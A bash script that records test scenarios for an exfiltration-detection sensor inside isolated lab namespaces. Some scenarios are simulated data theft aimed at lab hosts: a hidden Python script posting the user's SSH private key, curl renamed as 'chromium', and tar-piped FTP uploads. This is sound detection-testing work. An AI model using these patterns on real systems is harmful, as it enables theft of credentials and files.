#!/usr/bin/env bash
# Record the AN0424/AN0425 detection scenarios (captures/scenarios/README.md)
# with real tools: for each scenario a fresh two-namespace lab, the sensor
# (`exfilwatch run --record DIR --watch-path /home`) in the "host" namespace,
# the scenario's real client commands run as the lab user alice, then the
# recording (capture.pcapng + journal.jsonl) is checked and installed into
# captures/scenarios/<name>/. Run as root:
#
#   sudo captures/record_scenarios.sh              # every scenario
#   sudo captures/record_scenarios.sh p1_curl_multipart_pdf demo
#
#   "host"   namespace  exfw-scn-host-$$    sensor + clients (stands for the Mac)
#            198.18.7.1/24  2001:2:0:7::1/64
#   "remote" namespace  exfw-scn-remote-$$  servers: captures/lab/upload_server.py
#            198.18.7.2/24  2001:2:0:7::2/64 (HTTP :80 and :8080), vsftpd :21
#   one veth pair, no default route, offloads off (MSS-sized segments).
#
# Everything runs in a private mount (and UTS) namespace. There, tmpfs
# filesystems cover /home (alice's home: the only watched filesystem), /tmp
# and /opt, and lab copies of /etc/passwd, group, shadow and hosts are
# bind-mounted over the real ones (users alice and exfwuser, the names
# files.example.net and backup.example.net -> 198.18.7.2). The machine's own
# /home, /tmp, /opt and account files are never touched, and all of it
# disappears with the namespace. An EXIT/INT/TERM trap kills every process
# started here (by PID, then whatever is left inside the two lab network
# namespaces), deletes the namespaces and the work directory, also on failure.
#
# Environment:
#   EXFW_SCN_KEEP_WORK=1   keep the work directory (/var/tmp/exfw-scn.*): the
#                          sensor's events and logs, server logs, client output
#   EXFW_SCN_OUT=DIR       install into DIR/<name>/ (created if missing; may be under
#                          /tmp) instead of captures/scenarios/: the committed
#                          recordings are not touched
#   EXFW_BIN=PATH          use this exfilwatch binary instead of building one
set -euo pipefail

export LC_ALL=C
export DEBIAN_FRONTEND=noninteractive
GO_BIN="${GO:-$(command -v go 2>/dev/null || echo /usr/local/go/bin/go)}"
export PATH=/usr/sbin:/usr/bin:/sbin:/bin

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
REPO="$(cd "$HERE/.." && pwd)"
SCN="$HERE/scenarios"
DEST="${EXFW_SCN_OUT:-$SCN}"

LAB_TAG=scenarios LAB_SCRIPT=captures/record_scenarios.sh LAB_KEEP_WORK=${EXFW_SCN_KEEP_WORK:-0}
# shellcheck source=lab/lab.sh
. "$HERE/lab/lab.sh"     # the lab, its cleanup trap and helpers; sets LAB=captures/lab
lab_require_root

ALL_SCENARIOS=(p1_curl_multipart_pdf p2_python_urllib_put p3_wget_post_file p4_curl_ftp_upload
    p5_tar_pipe_curl_ftp p6_python_ssh_key_post p7_raw_ip_8080
    n1_browser_upload n2_upload_without_sensitive_read n3_download_after_read
    n4_allowlisted_backup n5_read_before_window demo)
MAX_BYTES=$((200 * 1024))   # per recorded file

SELECTED=("$@")
[ "${#SELECTED[@]}" -eq 0 ] && SELECTED=("${ALL_SCENARIOS[@]}")
for s in "${SELECTED[@]}"; do
    [[ " ${ALL_SCENARIOS[*]} " == *" $s "* ]] || die "unknown scenario \"$s\" (known: ${ALL_SCENARIOS[*]})"
done
lab_traps   # set again after the re-exec below

# --------------------------------------------------------------------------
# 1. packages (outside the private namespace; installed only when missing):
#    Debian package=a file we use
# --------------------------------------------------------------------------
if [ "${EXFW_SCN_INNER:-}" != 1 ]; then
    PKGS=(vsftpd=/usr/sbin/vsftpd curl=/usr/bin/curl wget=/usr/bin/wget python3=/usr/bin/python3
        iproute2=/usr/sbin/ip iputils-ping=/usr/bin/ping ethtool=/usr/sbin/ethtool procps=/usr/bin/ps
        util-linux=/usr/bin/setpriv             # unshare, setpriv, setsid
        openssh-client=/usr/bin/ssh-keygen      # alice's test key
        tar=/usr/bin/tar)
    # only for n1_browser_upload
    [[ " ${SELECTED[*]} " == *" n1_browser_upload "* ]] && PKGS+=(chromium=/usr/lib/chromium/chromium)
    lab_install "${PKGS[@]}"
    # The rest runs in a private mount and UTS namespace (mounts and host name
    # vanish with it); exec keeps our PID, so the trap set there owns everything.
    exec unshare --mount --uts --propagation private env EXFW_SCN_INNER=1 GO="$GO_BIN" bash "$0" "$@"
fi

# --------------------------------------------------------------------------
# 2. lab state (inside the private mount namespace from here on)
# --------------------------------------------------------------------------
HNS="exfw-scn-host-$$"
RNS="exfw-scn-remote-$$"
VH="exsh$$"          # veth end in the host namespace
VR="exsr$$"          # veth end in the remote namespace
H4=198.18.7.1 R4=198.18.7.2
H6=2001:2:0:7::1 R6=2001:2:0:7::2
FILES_HOST=files.example.net BACKUP_HOST=backup.example.net
ALICE=alice ALICE_UID=64501
AH=/home/alice
SENSOR_PID=""

kill_lab() { lab_kill; SENSOR_PID=""; }

# --------------------------------------------------------------------------
# 3. the private world: binary, tmpfs mounts, accounts, names
# --------------------------------------------------------------------------
WORK="$(mktemp -d /var/tmp/exfw-scn.XXXXXX)"
chmod 755 "$WORK"
if [ -n "${EXFW_BIN:-}" ]; then
    cp "$EXFW_BIN" "$WORK/exfilwatch"
else
    log "building exfilwatch"
    (cd "$REPO" && "$GO" build -o "$WORK/exfilwatch" ./cmd/exfilwatch)
fi
BIN="$WORK/exfilwatch"

# The recordings are installed through a directory descriptor opened before
# the tmpfs mounts, so that an EXFW_SCN_OUT under /tmp, /home or /opt is the
# machine's directory, not the private tmpfs that covers it here.
mkdir -p "$DEST"
exec 9<"$DEST"
DEST_FD="/proc/$$/fd/9"

hostname alice-laptop    # the journal header names the host: not this machine
mount -t tmpfs -o size=64m,mode=755 exfw-home /home
mount -t tmpfs -o size=512m,mode=1777 exfw-tmp /tmp
mount -t tmpfs -o size=32m,mode=755 exfw-opt /opt

lab_accounts "$WORK/etc" "$FTP_USER:$FTP_UID:exfw lab ftp user:$WORK/ftp/home:/bin/sh:$FTP_HASH" \
    "$ALICE:$ALICE_UID:Alice (exfw lab user):$AH:/bin/bash:!"
printf '127.0.0.1\tlocalhost alice-laptop\n::1\tlocalhost ip6-localhost ip6-loopback\n%s\t%s\n%s\t%s\n' \
    "$R4" "$FILES_HOST" "$R4" "$BACKUP_HOST" > "$WORK/etc/hosts"
chmod 644 "$WORK/etc/hosts"
for f in passwd group shadow hosts; do mount --bind "$WORK/etc/$f" "/etc/$f"; done

# files served for downloads (n3) and the payloads alice's home is made of
mkdir -p "$WORK/files" "$WORK/payloads"
head -c 30000 /dev/urandom > "$WORK/files/dataset.bin"
cp "$HERE/payloads/report.pdf" "$HERE/payloads/notes.txt" "$WORK/payloads/"
ssh-keygen -q -t rsa -b 2048 -N '' -C 'TEST KEY - exfilwatch lab, not a credential' -f "$WORK/payloads/id_rsa"

# alice's home on the /home tmpfs, fresh for every scenario (nothing is read
# there while it is built: the sensor starts afterwards)
make_home() {
    rm -rf "$AH"
    mkdir -p "$AH/Documents" "$AH/Desktop" "$AH/.ssh" "$AH/tmp"
    cp "$WORK/payloads/report.pdf" "$WORK/payloads/notes.txt" "$AH/Documents/"
    cp "$WORK/payloads/id_rsa" "$WORK/payloads/id_rsa.pub" "$AH/.ssh/"
    printf 'shopping: milk, eggs\n' > "$AH/Desktop/todo.txt"
    chmod 700 "$AH" "$AH/.ssh"
    chmod 600 "$AH/.ssh/id_rsa"
    chown -R "$ALICE_UID:$ALICE_UID" "$AH"
}

# /tmp is the private tmpfs: emptied between scenarios
reset_tmp() {
    find /tmp -mindepth 1 -delete
    rm -rf /opt/exfw-backup
}

# --------------------------------------------------------------------------
# 4. lab and servers (fresh for every scenario)
# --------------------------------------------------------------------------
servers_up() {  # servers_up DIR
    local d=$1 ftp="$1/ftp"
    lab_http "$RNS" "$R4" 80 "$WORK/files" "$d/http.log" "$d/http80.err"
    lab_http "$RNS" "$R4" 8080 "$WORK/files" "$d/http.log" "$d/http8080.err"
    # vsftpd from the lab config; exfwuser's home is re-pointed per scenario
    lab_ftp_dirs "$ftp"
    mkdir -p "$ftp/home/upload"
    chown "$FTP_UID:$FTP_UID" "$ftp/home/upload"
    rm -rf "$WORK/ftp"
    ln -s "$ftp" "$WORK/ftp"
    lab_vsftpd "$d/vsftpd.err" "$RNS" "$ftp" -- \
        -olisten=YES -olisten_ipv6=NO -olisten_address="$R4" -olisten_port=21
    wait_for 10 "http :80" listening "$RNS" 80
    wait_for 10 "http :8080" listening "$RNS" 8080
    wait_for 10 "ftp :21" listening "$RNS" 21
}

sensor_start() {  # sensor_start DIR
    local d=$1
    ip netns exec "$HNS" "$BIN" --log-format json run --interface "$VH" --events "$d/events.jsonl" \
        --record "$d/rec" --watch-path /home 2>"$d/sensor.err" &
    SENSOR_PID=$!
    PIDS+=("$SENSOR_PID")
    wait_for 15 "the sensor to capture" grep -q '"message":"capturing"' "$d/sensor.err"
    sleep 0.5
}

sensor_stop() {
    sleep 1.5   # let the last FIN/ACKs and file closes go by
    kill -INT "$SENSOR_PID"
    local rc=0
    wait "$SENSOR_PID" || rc=$?
    SENSOR_PID=""
    [ "$rc" -eq 0 ] || { cat "$D/sensor.err" >&2; die "sensor exited with $rc"; }
}

# --------------------------------------------------------------------------
# 5. clients, run as alice in her own session (like a new terminal window), so
#    that one client's ancestors are never another scenario's.
# --------------------------------------------------------------------------
D=""   # the current scenario's work directory
alice_env=(env -i HOME="$AH" USER="$ALICE" LOGNAME="$ALICE" SHELL=/bin/bash
    PATH=/usr/local/bin:/usr/bin:/bin LANG=C.UTF-8 TMPDIR=/tmp)
as_alice() {  # as_alice CMD...   (foreground; output to the client log)
    printf '%s\n' "$*" >> "$D/commands.txt"
    (cd "$AH" && ip netns exec "$HNS" setsid -w setpriv --reuid="$ALICE" --regid="$ALICE" \
        --init-groups "${alice_env[@]}" "$@") >>"$D/clients.log" 2>&1 \
        || { cat "$D/clients.log" >&2; die "client failed: $*"; }
}
as_alice_bg() {  # as_alice_bg CMD...   (background; pid in PIDS and BG_PID)
    printf '%s &\n' "$*" >> "$D/commands.txt"
    cd "$AH"
    ip netns exec "$HNS" setsid -w setpriv --reuid="$ALICE" --regid="$ALICE" \
        --init-groups "${alice_env[@]}" "$@" >>"$D/clients.log" 2>&1 &
    BG_PID=$!
    PIDS+=("$BG_PID")
    cd "$WORK"
}
alice_file() {  # alice_file PATH MODE < content   (a file alice owns)
    mkdir -p "$(dirname "$1")"
    cat > "$1"
    chmod "$2" "$1"
    chown "$ALICE_UID:$ALICE_UID" "$1" "$(dirname "$1")"
}
http_log_has() { [ -f "$D/http.log" ] && grep -q "$1" "$D/http.log"; }

HTTP="http://$FILES_HOST"
FTP="ftp://$FTP_USER:$FTP_PASS@$FILES_HOST"

# ---- the scenarios: prep_<name> runs before the sensor, run_<name> while it records,
#      check_<name> lists the recording checks (captures/scenarios/check_recording.py)

prep_p1_curl_multipart_pdf() { :; }
run_p1_curl_multipart_pdf() {
    as_alice curl -sS -o /dev/null -F file=@$AH/Documents/report.pdf "$HTTP/upload"
}
check_p1_curl_multipart_pdf() { echo --read "curl:$AH/Documents/report.pdf" --flow curl:80 --http POST:/upload; }

prep_p2_python_urllib_put() {
    alice_file "$AH/tmp/sync.py" 755 <<EOF
#!/usr/bin/env python3
# "sync" helper: reads a document and PUTs it with urllib.request
import urllib.request

with open("$AH/Documents/notes.txt", "rb") as f:
    data = f.read()
req = urllib.request.Request("$HTTP/sync/notes.txt", data=data, method="PUT",
                             headers={"Content-Type": "text/plain"})
with urllib.request.urlopen(req, timeout=10) as r:
    r.read()
EOF
}
run_p2_python_urllib_put() { as_alice python3 "$AH/tmp/sync.py"; }
check_p2_python_urllib_put() {
    echo --read "python3:$AH/Documents/notes.txt" --flow python3:80 --http "PUT:/sync/notes.txt" \
        --body-sha "$AH/Documents/notes.txt"
}

prep_p3_wget_post_file() { :; }
run_p3_wget_post_file() {
    as_alice wget -q -O /dev/null --post-file=$AH/Documents/notes.txt "$HTTP/upload"
}
check_p3_wget_post_file() {
    echo --read "wget:$AH/Documents/notes.txt" --flow wget:80 --http POST:/upload --body-sha "$AH/Documents/notes.txt"
}

prep_p4_curl_ftp_upload() { :; }
run_p4_curl_ftp_upload() { as_alice curl -sS -T $AH/Documents/report.pdf "$FTP/upload/"; }
check_p4_curl_ftp_upload() {
    echo --read "curl:$AH/Documents/report.pdf" --flow curl:21 --ftp-upload "/upload/report.pdf:$AH/Documents/report.pdf"
}

prep_p5_tar_pipe_curl_ftp() { :; }
run_p5_tar_pipe_curl_ftp() {
    as_alice sh -c "tar cf - -C $AH Documents | curl -sS -T - $FTP/upload/docs.tar"
}
check_p5_tar_pipe_curl_ftp() {
    echo --read "tar:$AH/Documents/report.pdf" --read "tar:$AH/Documents/notes.txt" --flow curl:21 \
        --ftp-upload "/upload/docs.tar:" --no-read-by curl
}

prep_p6_python_ssh_key_post() {
    alice_file /tmp/.cache-x/collect.py 755 <<EOF
#!/usr/bin/env python3
import os
import urllib.request

with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as f:
    key = f.read()
req = urllib.request.Request("$HTTP/c", data=key, method="POST",
                             headers={"Content-Type": "application/octet-stream"})
urllib.request.urlopen(req, timeout=10).read()
EOF
}
run_p6_python_ssh_key_post() { as_alice python3 /tmp/.cache-x/collect.py; }
check_p6_python_ssh_key_post() {
    echo --read "python3:$AH/.ssh/id_rsa" --flow python3:80 --http POST:/c --body-sha "$AH/.ssh/id_rsa"
}

prep_p7_raw_ip_8080() {
    install -m 755 /usr/bin/curl /tmp/chromium
}
run_p7_raw_ip_8080() {
    as_alice /tmp/chromium -sS -o /dev/null -H 'Content-Type: application/pdf' \
        --data-binary @$AH/Documents/report.pdf "http://$R4:8080/"
}
check_p7_raw_ip_8080() {
    echo --read "chromium:$AH/Documents/report.pdf" --flow chromium:8080 --exe chromium:/tmp/chromium \
        --http POST:/ --body-sha "$AH/Documents/report.pdf"
}

prep_n1_browser_upload() {
    # The page reads the PDF (XHR on file://, allowed by
    # --allow-file-access-from-files; fetch() has no file: scheme) and POSTs
    # it as a form upload, as a web mail or file-sharing page would.
    alice_file "$AH/Documents/upload.html" 644 <<EOF
<!doctype html>
<html><head><meta charset="utf-8"><title>upload</title></head><body>
<script>
const xhr = new XMLHttpRequest();
xhr.open("GET", "file://$AH/Documents/report.pdf");
xhr.responseType = "blob";
xhr.onload = () => {
  const fd = new FormData();
  fd.append("file", new File([xhr.response], "report.pdf", {type: "application/pdf"}));
  fetch("$HTTP/upload/browser", {method: "POST", body: fd, mode: "no-cors"})
    .then(() => { document.title = "uploaded"; }, (e) => { document.title = "error " + e; });
};
xhr.onerror = () => { document.title = "read error"; };
xhr.send();
</script>
</body></html>
EOF
    mkdir -p /tmp/chromium-profile
    chown "$ALICE_UID:$ALICE_UID" /tmp/chromium-profile
}
run_n1_browser_upload() {
    as_alice_bg chromium --headless=new --no-sandbox --user-data-dir=/tmp/chromium-profile \
        --allow-file-access-from-files --no-first-run --no-default-browser-check \
        --disable-background-networking --disable-component-update --disable-sync \
        --disable-default-apps --disable-breakpad --disable-features=MediaRouter,OptimizationHints \
        --disable-gpu --virtual-time-budget=15000 --dump-dom "file://$AH/Documents/upload.html"
    local pid=$BG_PID
    wait_for 60 "the browser's upload" http_log_has '"target": "/upload/browser"'
    # --dump-dom ends the browser once the page is idle; give it a moment
    local t=100
    while kill -0 "$pid" 2>/dev/null && [ "$t" -gt 0 ]; do sleep 0.1; t=$((t - 1)); done
    kill "$pid" 2>/dev/null || true
    wait "$pid" 2>/dev/null || true
}
check_n1_browser_upload() {
    echo --read "chromium:$AH/Documents/report.pdf" --flow chromium:80 \
        --exe chromium:/usr/lib/chromium/chromium --http POST:/upload/browser
}

prep_n2_upload_without_sensitive_read() {
    head -c 20000 /dev/urandom > /tmp/random.bin
    chmod 644 /tmp/random.bin
}
run_n2_upload_without_sensitive_read() {
    as_alice curl -sS -o /dev/null -F file=@/tmp/random.bin "$HTTP/upload"
}
check_n2_upload_without_sensitive_read() {
    echo --flow curl:80 --http POST:/upload --no-sensitive-read
}

prep_n3_download_after_read() { :; }
run_n3_download_after_read() {
    as_alice sh -c "cat ~/Documents/notes.txt > /dev/null; curl -sS -o /dev/null $HTTP/files/dataset.bin"
}
check_n3_download_after_read() {
    echo --read "cat:$AH/Documents/notes.txt" --flow curl:80 --http GET:/files/dataset.bin --no-upload
}

prep_n4_allowlisted_backup() {
    # the "backup tool" (a curl copy) installed on the private /opt tmpfs
    install -d -m 755 /opt/exfw-backup/bin
    install -m 755 /usr/bin/curl /opt/exfw-backup/bin/exfw-backup
}
run_n4_allowlisted_backup() {
    as_alice /opt/exfw-backup/bin/exfw-backup -sS -T $AH/Documents/report.pdf \
        "ftp://$FTP_USER:$FTP_PASS@$BACKUP_HOST/upload/"
}
check_n4_allowlisted_backup() {
    echo --read "exfw-backup:$AH/Documents/report.pdf" --flow exfw-backup:21 \
        --exe exfw-backup:/opt/exfw-backup/bin/exfw-backup --ftp-upload "/upload/report.pdf:$AH/Documents/report.pdf"
}

prep_n5_read_before_window() {
    alice_file "$AH/tmp/stats.py" 755 <<EOF
#!/usr/bin/env python3
# reads a document, then 8 s later posts 4 KiB of random bytes (not the document)
import os
import time
import urllib.request

with open("$AH/Documents/notes.txt", "rb") as f:
    f.read()
time.sleep(8)
req = urllib.request.Request("$HTTP/telemetry", data=os.urandom(4096), method="POST",
                             headers={"Content-Type": "application/octet-stream"})
urllib.request.urlopen(req, timeout=10).read()
EOF
}
run_n5_read_before_window() { as_alice python3 "$AH/tmp/stats.py"; }
check_n5_read_before_window() {
    echo --read "python3:$AH/Documents/notes.txt" --flow python3:80 --http POST:/telemetry \
        --not-body-sha "$AH/Documents/notes.txt" --read-before-flow "python3:7"
}

prep_demo() { prep_n2_upload_without_sensitive_read; }
run_demo() {
    run_p1_curl_multipart_pdf
    sleep 1
    run_n2_upload_without_sensitive_read
    sleep 1
    run_n3_download_after_read
}
check_demo() {
    echo --read "curl:$AH/Documents/report.pdf" --read "cat:$AH/Documents/notes.txt" --flow curl:80 \
        --http POST:/upload --http GET:/files/dataset.bin
}

# --------------------------------------------------------------------------
# 6. one scenario
# --------------------------------------------------------------------------
REC_OK=0
# record_one NAME ATTEMPT: sets REC_OK=1 when the recording passed its checks
# and was installed (a plain call, not an `if` condition, so that set -e
# still stops on any other failure)
record_one() {
    local name=$1
    D="$WORK/$name.$2"
    mkdir -p "$D"
    chmod 755 "$D"
    : > "$D/commands.txt"
    log "== $name"
    reset_tmp
    make_home
    lab_netns_up
    servers_up "$D"
    "prep_$name"
    sensor_start "$D"
    "run_$name"
    sensor_stop
    local checks
    read -r -a checks <<< "$("check_$name")"
    python3 "$SCN/check_recording.py" --dir "$D/rec" --http-log "$D/http.log" \
        --ftp-log "$D/ftp/vsftpd.log" --lab "$H4,$R4" "${checks[@]}" \
        || { log "$name: recording check failed; sensor: $(tail -1 "$D/sensor.err")"; kill_lab; REC_OK=0; return 0; }
    kill_lab
    local f
    for f in capture.pcapng journal.jsonl; do
        local sz
        sz=$(stat -c %s "$D/rec/$f")
        [ "$sz" -le "$MAX_BYTES" ] || die "$name: $f is $sz bytes (limit $MAX_BYTES)"
    done
    mkdir -p "$DEST_FD/$name"
    for f in capture.pcapng journal.jsonl; do
        cp "$D/rec/$f" "$DEST_FD/$name/$f.tmp"
        chmod 644 "$DEST_FD/$name/$f.tmp"
        mv -f "$DEST_FD/$name/$f.tmp" "$DEST_FD/$name/$f"
    done
    REC_OK=1
    log "$name: installed in $DEST/$name ($(du -b "$DEST_FD/$name/capture.pcapng" | cut -f1) + $(du -b "$DEST_FD/$name/journal.jsonl" | cut -f1) bytes)"
}

# A short-lived client can end before the sensor's socket-table lookup
# answers (the flow is then unattributed, reason process_gone); such a
# recording is useless for detection, so the scenario is recorded again
# (at most 10 attempts; every attempt's work directory is kept with
# EXFW_SCN_KEEP_WORK=1).
RETRIED=()
for s in "${SELECTED[@]}"; do
    ok=0
    for attempt in $(seq 10); do
        record_one "$s" "$attempt"
        if [ "$REC_OK" = 1 ]; then ok=1; break; fi
        RETRIED+=("$s#$attempt")
    done
    [ "$ok" = 1 ] || die "$s: no good recording in 10 attempts"
done
[ "${#RETRIED[@]}" -gt 0 ] && log "failed attempts (recorded again): ${RETRIED[*]}"
log "done: ${SELECTED[*]}"
